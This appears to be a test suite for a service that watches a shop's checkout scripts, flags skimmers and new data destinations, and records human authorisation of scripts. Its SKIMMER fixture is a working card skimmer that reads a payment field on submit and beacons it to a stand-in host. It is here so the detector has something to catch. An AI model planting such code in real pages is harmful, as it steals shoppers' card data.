import { Client } from 'pg';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { durationOfMs, type Id, type Scope, uuidOf } from '#kernel';
import type { SeenListener, SeenScript } from '#platform/browser';
import { clientConfigOf } from '../../platform/database/connection.ts';
import type { SiteId } from '../index.ts';
import { aRequest, aScript, aSite, honestPage, ORIGIN, openTestWatch, type Page, type TestWatch } from '../testing.ts';
import type { InventoryScriptAnswer } from './answers.ts';

const MINUTE = durationOfMs(60_000);
const DAY = durationOfMs(86_400_000);

const LIBRARY = 'function total(list) { return list.length; } function show(node, text) { node.textContent = text; }';
const SKIMMER = `
(function () {
  function collect(form) { return form.querySelector('#n').value; }
  function send(text) { navigator.sendBeacon('https://cdn-metrics.example/c', text); }
  document.getElementById('pay').addEventListener('submit', function (event) { send(collect(event.target)); });
})();`;

type Shown = {
  readonly scripts: readonly SeenScript[];
  readonly listeners?: readonly SeenListener[];
  readonly sends?: readonly (readonly [host: string, script: SeenScript])[];
  /** Of pictures, whose requests name no script. */
  readonly pictures?: readonly string[];
};

const pageOf =
  ({ scripts, listeners = [], sends = [], pictures = [] }: Shown): Page =>
  (typed, order) => ({
    scripts,
    listeners,
    requests: [
      ...(honestPage(typed, order).requests ?? []),
      ...sends.map(([host, { url }]) =>
        aRequest(`https://${host}/`, 'nothing of the card', { stack: [{ url, line: 1, column: 1 }] }),
      ),
      ...pictures.map((host) => aRequest(`https://${host}/`, '', { kind: 'image' })),
    ],
  });

const listener = (script: SeenScript, on: SeenListener['on'], event: string): SeenListener => ({
  ...{ on, event, frameUrl: `${ORIGIN}/checkout`, step: 2 },
  script: { url: script.url, inline: script.inline, sha256: script.sha256 },
});

const library = (source = LIBRARY): SeenScript => aScript(`${ORIGIN}/shop.js?v=1`, source);
const tag = (source = 'track()'): SeenScript => aScript('https://tags.example/t.js', source);
const inline = (source: string): SeenScript => aScript(`${ORIGIN}/checkout`, source, { inline: true, startLine: 9 });

describe('the inventory of a site', () => {
  let test: TestWatch;
  let superuser: Client;
  beforeAll(async () => {
    test = await openTestWatch();
    superuser = new Client(clientConfigOf(test.database.administrator));
    await superuser.connect();
  }, 60_000);
  afterAll(async () => {
    await superuser.end();
    await test.close();
  });

  const begun: { readonly scope: Scope; readonly site: SiteId }[] = [];
  afterEach(async () => {
    for (const { scope, site } of begun.splice(0)) await test.watch.sites.change(scope, site, aSite({ active: false }));
  });

  const begin = async () => {
    const scope = test.scope();
    const site = (await test.watch.sites.add(scope, aSite())).id as SiteId;
    begun.push({ scope, site });
    const see = async (shown: Shown) => {
      test.browser.page = pageOf(shown);
      test.clock.advance(MINUTE);
      const { id } = await test.watch.visits.order(scope, site);
      await test.watch.scheduler.runOnce();
      expect(test.failures).toEqual([]);
      const { findings } = await test.watch.visits.one(scope, id as Id<'vis'>);
      return findings.map(({ kind, severity }) => `${severity} ${kind}`);
    };
    const list = async () =>
      (await test.watch.inventory.page(scope, site, { filters: {}, cursor: undefined, limit: 100 })).items;
    return { scope, site, see, list };
  };

  const only = (scripts: readonly InventoryScriptAnswer[], path: string): InventoryScriptAnswer => {
    const found = scripts.filter(({ url }) => url.endsWith(path));
    const [one] = found;
    if (one === undefined || found.length > 1) throw new Error(`${found.length} scripts at ${path}`);
    return one;
  };
  const factOf = async (entry: Id<'ent'>): Promise<unknown> => {
    const { rows } = await superuser.query('select bytes from evidence.entry where id = $1', [uuidOf(entry)]);
    const { payload } = JSON.parse(String(rows[0]?.bytes));
    return JSON.parse(Buffer.from(payload, 'base64').toString('utf8')).predicate.fact;
  };
  const idOf = ({ id }: InventoryScriptAnswer) => id as Id<'scr'>;

  it('finds nothing in its first visit, and knows each script with who loaded it and what it does', async () => {
    const { see, list } = await begin();
    const [shop, late] = [library(), tag("localStorage.setItem('seen', '1')")];
    const found = await see({
      scripts: [shop, { ...late, by: { url: shop.url, line: 0, column: 3 } }],
      listeners: [listener(shop, 'field', 'blur'), listener(shop, 'page', 'DOMContentLoaded')],
      sends: [['stats.example', late]],
    });
    expect(found).toEqual([]);
    expect(only(await list(), '/shop.js')).toMatchObject({
      ...{ state: 'new', functions: 2, present: true, contents: 1, url: `${ORIGIN}/shop.js` },
      behaviour: { destinations: [], listens: ['field blur'], readsCard: true, storage: [], evaluates: false },
    });
    expect(only(await list(), '/t.js')).toMatchObject({
      loadedBy: { kind: 'script', url: `${ORIGIN}/shop.js`, inline: false },
      behaviour: { destinations: ['stats.example'], readsCard: false, storage: ['local-storage'] },
    });
  });

  it('keeps the history of a shop that moves, and what is new at its new address is new', async () => {
    const { scope, site, see, list } = await begin();
    const shown = library();
    const listeners = [listener(shown, 'form', 'submit')];
    await see({ scripts: [shown], listeners });
    const [known] = await list();
    const origin = 'https://www.moved.example';
    await test.watch.sites.change(scope, site, aSite({ origin }));
    const there = { ...shown, url: shown.url.replace(ORIGIN, origin), frameUrl: `${origin}/checkout` };
    const listens = (script: SeenScript) => ({ ...listener(script, 'form', 'submit'), frameUrl: `${origin}/checkout` });
    expect(await see({ scripts: [there], listeners: [listens(there)] })).toEqual([]);
    expect(await list()).toMatchObject([{ id: known?.id, url: `${origin}/shop.js`, present: true }]);
    const added = { ...there, url: `${origin}/added.js` };
    expect(await see({ scripts: [there, added], listeners: [listens(there), listens(added)] })).toContain(
      'medium card-listener-added',
    );
    // One that is known at both addresses stays at each.
    await see({ scripts: [there, shown], listeners: [listens(there)] });
    await test.watch.sites.change(scope, site, aSite());
    const urls = (await list()).map(({ url }) => url).toSorted();
    expect(urls).toEqual([`${ORIGIN}/added.js`, `${ORIGIN}/shop.js`, `${origin}/shop.js`]);
  });

  it('says a skimmer appended to a library is high, and shows exactly its functions', async () => {
    const { scope, see, list } = await begin();
    await see({ scripts: [library()] });
    const attacked = library(LIBRARY + SKIMMER);
    const found = await see({
      scripts: [attacked],
      listeners: [listener(attacked, 'form', 'submit')],
      sends: [['cdn-metrics.example', attacked]],
    });
    expect(found.toSorted()).toEqual(['high card-listener-and-new-host', 'low script-changed']);
    const script = only(await list(), '/shop.js');
    const { history } = await test.watch.inventory.one(scope, idOf(script));
    const [to, from] = [history[0]?.sha256 ?? '', history[1]?.sha256 ?? ''];
    expect(to).toBe(attacked.sha256);
    const { added, removed, changed, same } = await test.watch.inventory.functions(scope, idOf(script), { from, to });
    expect(added.filter(({ kind }) => kind === 'function').map(({ name }) => name)).toEqual([
      undefined,
      'collect',
      'send',
      undefined,
    ]);
    expect(added.find(({ name }) => name === 'send')).toMatchObject({
      line: 4,
      excerpt: "function send(text) {\n  navigator.sendBeacon('https://cdn-metrics.example/c', text);\n}",
    });
    expect([removed, changed, same]).toEqual([[], [], 2]);
  });

  it.each<[string, (shop: SeenScript) => Omit<Shown, 'scripts'>, readonly string[]]>([
    [
      'a new listener alone',
      (shop) => ({ listeners: [listener(shop, 'field', 'input')] }),
      ['low script-changed', 'medium card-listener-added'],
    ],
    ['a new host alone', (shop) => ({ sends: [['new.example', shop]] }), ['low script-changed']],
    [
      'keys heard on the page alone',
      (shop) => ({ listeners: [listener(shop, 'page', 'keydown')] }),
      ['low script-changed'],
    ],
    [
      'keys heard on the page, and a new host',
      (shop) => ({ listeners: [listener(shop, 'page', 'keydown')], sends: [['new.example', shop]] }),
      ['low script-changed', 'medium card-listener-added'],
    ],
    [
      'what is typed, heard on the page alone',
      (shop) => ({ listeners: [listener(shop, 'page', 'change')] }),
      ['low script-changed'],
    ],
    [
      'what is typed, heard on the page, and a new host',
      (shop) => ({ listeners: [listener(shop, 'page', 'submit')], sends: [['new.example', shop]] }),
      ['low script-changed', 'medium card-listener-added'],
    ],
    [
      'what is typed, heard on the page, and a picture of a new host',
      (shop) => ({ listeners: [listener(shop, 'page', 'submit')], pictures: ['new.example'] }),
      ['low script-changed', 'medium card-listener-added'],
    ],
    ['a picture of a new host alone', () => ({ pictures: ['new.example'] }), []],
    [
      'the button that is pressed to pay, and a new host',
      (shop) => ({ listeners: [listener(shop, 'button', 'click')], sends: [['new.example', shop]] }),
      ['high card-listener-and-new-host', 'low script-changed'],
    ],
    [
      'a host that may get card data',
      (shop) => ({ listeners: [], sends: [['pay.example', shop]] }),
      ['low script-changed'],
    ],
  ])('weighs %s', async (_what, shown, expected) => {
    const { see } = await begin();
    await see({ scripts: [library()] });
    expect((await see({ scripts: [library()], ...shown(library()) })).toSorted()).toEqual(expected);
    expect(await see({ scripts: [library()], ...shown(library()) })).toEqual([]);
  });

  it('says a reader and a sender of which one loaded the other are one', async () => {
    const { see } = await begin();
    await see({ scripts: [library()] });
    const [shop, sender] = [library(), tag()];
    const found = await see({
      scripts: [shop, { ...sender, by: { url: shop.url, line: 0, column: 0 } }],
      listeners: [listener(shop, 'field', 'change')],
      sends: [['new.example', sender]],
    });
    expect(found).toContain('high card-listener-and-new-host');
  });

  it.each<[string, readonly SeenScript[], readonly SeenScript[]]>([
    [
      'a nonce and the state of the page',
      [inline("boot('3f9a2c11d4e5b6a7'); window.S = { cart: [1] };")],
      [inline("boot('9b8c7d6e5f4a3b2c'); window.S = { cart: [1, 2, 3], user: 'x' };")],
    ],
    [
      'an instant in a file',
      [library(`${LIBRARY} var built = 1763712000000;`)],
      [library(`${LIBRARY} var built = 1763798400000;`)],
    ],
    [
      'the hash in the name of a file',
      [aScript(`${ORIGIN}/js/app.8f3d2a1b.js`, LIBRARY)],
      [aScript(`${ORIGIN}/js/app.c0ffee12.js`, LIBRARY)],
    ],
    ['the query of its address', [library()], [aScript(`${ORIGIN}/shop.js?v=2`, LIBRARY)]],
    ['two inline scripts joined to one', [inline('one()'), inline('two()')], [inline('one();\ntwo()')]],
    ['local names and spaces', [library('function a(b) { return b + 1; }')], [library('function a(c){return c+1}')]],
  ])('is silent about %s', async (_what, before, after) => {
    const { see } = await begin();
    await see({ scripts: before });
    expect(await see({ scripts: after })).toEqual([]);
  });

  describe('authorisation', () => {
    const words = { why: '商品の合計を表示するため', responsible: 'EC課 佐藤' };

    const authorised = async (policy: 'same-content' | 'same-functions' | 'same-behaviour' = 'same-functions') => {
      const begun = await begin();
      await begun.see({ scripts: [library()] });
      await test.watch.inventory.setPolicy(begun.scope, begun.site, { policy });
      const { changedAt, ...script } = only(await begun.list(), '/shop.js');
      const id = script.id as Id<'scr'>;
      const decision = { act: 'authorise', changedAt: Date.parse(changedAt) as never, ...words } as const;
      const detail = await test.watch.inventory.decide(begun.scope, id, decision);
      const state = async () => only(await begun.list(), '/shop.js').state;
      return { ...begun, id, detail, decision, state };
    };

    it('is a person’s, with why and who answers, in list, CSV and log', async () => {
      const { scope, site, detail } = await authorised();
      expect(detail).toMatchObject({ state: 'authorised', authorisation: { ...words, by: scope.principal.id } });
      expect(detail.decisions).toMatchObject([{ act: 'authorise', sha256s: [library().sha256] }]);
      const csv = new TextDecoder().decode(await test.watch.inventory.csv(scope, site, { state: 'authorised' }));
      const [head = '', row = ''] = csv.replace('\uFEFF', '').trim().split('\r\n');
      const cells = new Map(head.split(',').map((name, at) => [name, row.split(',')[at]]));
      expect(cells.get('justification')).toBe(words.why);
      expect(cells.get('responsible')).toBe(words.responsible);
      const entry = detail.decisions[0]?.evidence as Id<'ent'>;
      const logged = await factOf(entry);
      expect(logged).toMatchObject({ setting: 'script-authorisation', act: 'authorise', sha256s: [library().sha256] });
      expect(JSON.stringify(logged)).not.toContain(words.responsible);
    });

    it.each([
      ['same-functions', 'an instant', `${LIBRARY} var built = 1763798400000;`, 'changed'],
      ['same-content', 'an instant', LIBRARY.replace('text;', 'text ;'), 'changed'],
      ['same-functions', 'only spaces', LIBRARY.replace('text;', 'text ;'), 'authorised'],
      ['same-functions', 'a function', `${LIBRARY} function more() {}`, 'changed'],
      ['same-behaviour', 'a function', `${LIBRARY} function more() {}`, 'authorised'],
    ] as const)('by %s, when %s changes', async (policy, _what, source, expected) => {
      const { see, state } = await authorised(policy);
      await see({ scripts: [library(source)] });
      expect(await state()).toBe(expected);
      await see({ scripts: [library()] });
      expect(await state()).toBe('authorised');
    });

    it('ends under any policy when it does something new, and stays so until a person decides', async () => {
      const { scope, see, state, id } = await authorised('same-behaviour');
      await see({ scripts: [library()], sends: [['stats.example', library()]] });
      expect(await state()).toBe('changed');
      await see({ scripts: [library()] });
      expect(await state()).toBe('changed');
      const { beyond } = await test.watch.inventory.one(scope, id);
      expect(beyond).toMatchObject({ destinations: ['stats.example'], listens: [] });
    });

    it('is refused for what has changed since it was looked at', async () => {
      const { scope, see, id, decision } = await authorised();
      test.clock.advance(DAY);
      await see({ scripts: [library(LIBRARY + SKIMMER)] });
      await expect(test.watch.inventory.decide(scope, id, decision)).rejects.toMatchObject({
        details: { code: 'script-changed-meanwhile' },
      });
    });

    it('can be withdrawn once, and given again', async () => {
      const { scope, see, state, id, decision } = await authorised();
      await test.watch.inventory.decide(scope, id, { act: 'withdraw', why: '不要になったため' });
      await see({ scripts: [library()] });
      expect(await state()).toBe('withdrawn');
      await expect(
        test.watch.inventory.decide(scope, id, { act: 'withdraw', why: '不要になったため' }),
      ).rejects.toMatchObject({ details: { code: 'script-not-authorised' } });
      expect((await test.watch.inventory.decide(scope, id, decision)).state).toBe('authorised');
    });

    it('is judged anew when the policy changes', async () => {
      const { scope, site, see, state } = await authorised('same-behaviour');
      await see({ scripts: [library(`${LIBRARY} function more() {}`)] });
      expect(await state()).toBe('authorised');
      await test.watch.inventory.setPolicy(scope, site, { policy: 'same-functions' });
      expect(await state()).toBe('changed');
      await test.watch.inventory.setPolicy(scope, site, { policy: 'same-behaviour' });
      expect(await state()).toBe('authorised');
    });
  });

  it('says why a script that cannot be read cannot be compared', async () => {
    const { scope, see, list } = await begin();
    const script = library('this is no script (');
    await see({ scripts: [script] });
    const found = only(await list(), '/shop.js');
    expect(found).toMatchObject({ notParsed: 'syntax', functions: 0 });
    await expect(test.watch.inventory.functions(scope, idOf(found), { to: script.sha256 })).rejects.toMatchObject({
      details: { code: 'script-not-comparable' },
    });
  });

  describe('the digest of a week', () => {
    const digests = async (scope: Scope) =>
      (await test.cases.alerts.list(scope, { filters: { kind: 'site-changes-digest' }, limit: 50 })).items;

    it('has each change once, whenever it is looked for', async () => {
      const { scope, site, see } = await begin();
      await see({ scripts: [library()] });
      const sources = Array.from({ length: 12 }, (_, at) => `${LIBRARY} function number${at}() { return ${at}; }`);
      for (const [at, source] of sources.entries()) {
        await see({ scripts: [library(source)] });
        test.clock.advance(durationOfMs(86_400_000 * (1 + (at % 3))));
        if (at % 4 === 0) await test.watch.scheduler.runOnce();
      }
      test.clock.advance(durationOfMs(7 * 86_400_000));
      await test.watch.scheduler.runOnce();
      await test.watch.scheduler.runOnce();
      const { items } = await test.watch.inventory.changes(scope, site, { filters: {}, cursor: undefined, limit: 100 });
      expect(items).toHaveLength(sources.length);
      expect(items.every(({ digest }) => digest !== undefined)).toBe(true);
      const alerts = await Promise.all(
        (await digests(scope)).map(({ id }) => test.cases.alerts.get(scope, id as never)),
      );
      const told = alerts.map(({ detail }) => detail as { changes: number; digest: string });
      expect(told.reduce((sum, { changes }) => sum + changes, 0)).toBe(sources.length);
      for (const { digest, changes } of told)
        expect(items.filter((each) => each.digest === digest)).toHaveLength(changes);
    });
  });
});
